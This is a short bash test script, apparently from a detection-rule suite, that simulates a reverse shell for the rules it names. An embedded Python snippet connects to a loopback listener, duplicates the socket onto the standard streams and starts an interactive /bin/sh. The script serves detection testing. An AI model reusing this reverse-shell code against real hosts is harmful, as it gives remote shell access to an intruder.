#!/usr/bin/env bash
# rule: command-and-control-reverse-shell-child-shell
# also: command-and-control-interactive-shell-on-socket
# mitre: T1059.004, T1095
# A python reverse shell: connect to a loopback listener, dup2 the socket, run sh -i, which reads exit.
set -euo pipefail
source "$(dirname "$0")/../lib/sim.sh"
listen --reply "exit\n"
port=$LISTEN_PORT
"$PY" - "$port" <<'PY'
import os, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
PY
wait
